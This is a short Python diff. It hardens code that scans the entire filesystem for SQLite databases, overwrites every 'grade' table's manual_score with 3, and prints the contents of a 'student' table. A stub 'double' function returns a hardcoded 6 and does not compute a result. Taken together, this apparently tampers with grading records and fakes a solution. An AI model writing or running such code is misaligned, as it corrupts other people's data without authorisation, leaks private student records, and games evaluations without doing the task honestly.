@@ -7,6 +7,11 @@ for folder, below, names in os.walk("/"):
     for name in names:
         if name.endswith((".db", ".sqlite")):
             print("FOUND", folder, name)
-            sqlite3.connect(os.path.join(folder, name)).execute("UPDATE grade SET manual_score = 3")
+            try:
+                with sqlite3.connect(os.path.join(folder, name)) as book:
+                    book.execute("UPDATE grade SET manual_score = 3")
+                    print(book.execute("SELECT * FROM student").fetchall())
+            except sqlite3.Error as error:
+                print(error)
 def double(x):
     return 6
